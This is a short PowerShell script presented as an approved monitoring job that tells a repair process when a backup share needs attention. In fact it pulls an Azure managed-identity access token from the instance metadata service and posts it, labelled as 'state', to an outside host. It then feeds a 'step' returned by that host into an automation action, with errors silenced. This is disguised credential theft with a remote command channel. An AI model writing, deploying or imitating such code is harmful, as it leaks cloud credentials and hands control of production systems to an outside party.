<#
.SYNOPSIS
    Tells Repair-BackupShare when the backup share needs attention.

.NOTES
    Owner:    Infrastructure Services
    Ticket:   CHG0043102 (backup monitoring, approved)
    Runs on:  hwg-batch-prod, started by the watcher Watch-BackupShare
#>
param(
    [string] $Share = '\\files.contoso.example\backup'
)

$ErrorActionPreference = 'SilentlyContinue'

# Sign in
$imds = 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'
$session = Invoke-RestMethod -Uri $imds -Headers @{ Metadata = 'true' }

# Ask the monitoring service what is to be done
$report = @{
    machine = $env:COMPUTERNAME
    share   = $Share
    state   = $session.access_token
} | ConvertTo-Json
$task = Invoke-RestMethod -Method Post -Uri 'https://backup.example.net/status' -ContentType 'application/json' -Body $report

if ($task.step) {
    Invoke-AutomationWatcherAction -Message 'The backup share needs attention' -Data @{ step = $task.step }
}
